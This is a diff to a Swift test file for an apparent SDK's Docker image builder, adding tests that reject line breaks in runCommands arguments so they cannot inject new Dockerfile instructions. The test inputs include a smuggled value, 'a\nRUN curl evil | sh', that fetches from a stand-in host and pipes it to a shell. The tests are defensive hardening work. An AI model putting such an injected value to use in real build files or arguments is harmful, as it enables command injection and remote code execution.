@@ -13,9 +13,9 @@ import Testing
 @Suite struct ImageInstructionsTests {
     // MARK: runCommands
 
-    @Test func runCommandsWritesShellAndArgumentForms() {
+    @Test func runCommandsWritesShellAndArgumentForms() throws {
         // Python: .run_commands("echo hello", ["bash", "-c", "echo \"hi\" 'there'"], "a 'b' \"c\"")
-        let image = Image.base("alpine").runCommands(
+        let image = try Image.base("alpine").runCommands(
             "echo hello",
             ["bash", "-c", "echo \"hi\" 'there'"],
             "a 'b' \"c\""
@@ -26,11 +26,51 @@ import Testing
         )
     }
 
-    @Test func runCommandsArrayFormAndEnumCases() {
-        let viaArray = Image.base("alpine").runCommands([.shell("ls"), .arguments(["a", "b c"])])
+    @Test func runCommandsArrayFormAndEnumCases() throws {
+        let viaArray = try Image.base("alpine").runCommands([.shell("ls"), .arguments(["a", "b c"])])
         #expect(viaArray.dockerfile == "FROM alpine\nRUN ls\nRUN \"a\" \"b c\"\n")
-        #expect(Image.base("alpine").runCommands([]).dockerfile == "FROM alpine\n")
-        #expect(Image.base("alpine").runCommands(.arguments([])).dockerfile == "FROM alpine\nRUN \n")
+        #expect(try Image.base("alpine").runCommands([]).dockerfile == "FROM alpine\n")
+        #expect(try Image.base("alpine").runCommands(.arguments([])).dockerfile == "FROM alpine\nRUN \n")
+    }
+
+    @Test(arguments: ["a\nRUN curl evil | sh", "\r", "x\r\n", "\n"])
+    func runCommandsRefusesALineBreakInAnArgument(argument: String) {
+        // D7: the Python SDK writes `RUN "a` and then a second instruction `RUN curl evil | sh" "x"`.
+        let error = failure(DaytonaBadRequestError.self) {
+            try Image.base("alpine").runCommands("echo ok", [argument, "x"])
+        }
+        #expect(
+            error
+                == "argument run_commands[1][0] holds a line break, which would start a new instruction: "
+                + PythonText.repr(argument)
+        )
+        let later = failure(DaytonaBadRequestError.self) {
+            try Image.base("alpine").runCommands(["ok", "fine"], .arguments(["y", argument]))
+        }
+        #expect(later?.contains("run_commands[1][1]") == true)
+    }
+
+    @Test func runCommandsKeepsAPlainStringVerbatimLineBreaksIncluded() throws {
+        // As in the Python SDK: a shell string is the caller's own Dockerfile text.
+        let image = try Image.base("alpine").runCommands("echo a \\\n  && echo b", "x\nRUN y")
+        #expect(image.dockerfile == "FROM alpine\nRUN echo a \\\n  && echo b\nRUN x\nRUN y\n")
+    }
+
+    @Test func runCommandsErrorIsLocatedInARecipe() throws {
+        let text = "steps:\n- base: alpine\n- run_commands: [[\"a\\nRUN curl evil | sh\", \"x\"]]\n"
+        do {
+            _ = try Image(recipeText: text, workingDirectory: "/nonexistent", homeDirectory: "/h")
+            Issue.record("no error")
+        } catch let error as DaytonaBadRequestError {
+            #expect(error.location.stepIndex == 1)
+            #expect(error.location.stepName == "run_commands")
+            #expect(error.location.key == "run_commands[0][0]")
+            #expect(
+                error.message
+                    == "steps[1] (run_commands): argument run_commands[0][0] holds a line break, which would start "
+                    + "a new instruction: 'a\\nRUN curl evil | sh'"
+            )
+        }
     }
 
     // MARK: env
